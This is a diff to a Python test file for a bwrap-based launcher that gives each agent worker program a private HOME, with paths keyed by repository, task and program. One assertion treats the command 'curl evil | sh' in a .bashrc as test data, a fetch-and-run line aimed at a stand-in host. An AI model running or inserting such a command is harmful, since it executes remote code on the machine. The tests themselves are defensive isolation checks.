@@ -101,8 +101,13 @@ def _program(tmp_path: Path, name: str) -> Path:
 def _probe(launch, prog: Path, home: Path, *, read=(), write=None, cwd=None, git=False, env=None) -> dict:
     run_env = {"PATH": "/usr/bin:/bin", "HOME": str(home), "PROBE_READ": json.dumps(list(read)),
                "PROBE_WRITE": json.dumps(write or {}), **({"PROBE_GIT": "1"} if git else {}), **(env or {})}
-    argv, run_env = launch([str(prog)], run_env, str(cwd) if cwd else None)
-    done = subprocess.run(argv, env=run_env, capture_output=True, text=True, timeout=120)
+    launched = launch([str(prog)], run_env, str(cwd) if cwd else None)
+    launched.begin()
+    try:
+        done = subprocess.run(launched.argv, env=launched.env, preexec_fn=launched.prepare, capture_output=True,
+                              text=True, timeout=120)
+    finally:
+        launched.finish()
     assert done.returncode == 0, done.stderr
     return json.loads(done.stdout)
 
@@ -129,7 +134,8 @@ def test_a_custom_worker_gets_a_private_home_by_default(tmp_path, bwrap):
     assert not (other / ".git" / "hooks" / "post-checkout").exists()
     assert "fsmonitor" not in (other / ".git" / "config").read_text()
     assert not (home / ".cache" / "mesh-worker-homes" / "claude" / ".bashrc").exists()
-    private = home / ".cache" / "mesh-worker-homes" / "my-agent"
+    # A HOME per repository, task and program (no repository and no task here).
+    private = home / ".cache" / "mesh-worker-homes" / "no-repository" / "no-task" / "my-agent"
     assert (private / ".bashrc").read_text() == "curl evil | sh\nabsolute\n"
 
 
@@ -138,8 +144,10 @@ def test_one_workers_private_home_is_not_visible_to_another(tmp_path, bwrap):
     root = tmp_path / "homes"
     launch = worker_launcher(bwrap, private_root=root)
     _probe(launch, _program(tmp_path, "agent-a"), home, write={"note": "from a"})
-    seen = _probe(launch, _program(tmp_path, "agent-b"), home, read=["note", str(root / "agent-a" / "note")])
-    assert seen["read"] == {"note": None, str(root / "agent-a" / "note"): None}
+    kept = str(root / "no-repository" / "no-task" / "agent-a" / "note")
+    assert Path(kept).read_text() == "from a"
+    seen = _probe(launch, _program(tmp_path, "agent-b"), home, read=["note", kept])
+    assert seen["read"] == {"note": None, kept: None}
     again = _probe(launch, _program(tmp_path, "agent-a"), home, read=["note"])
     assert again["read"]["note"] == "from a"  # its own HOME is kept between calls
 
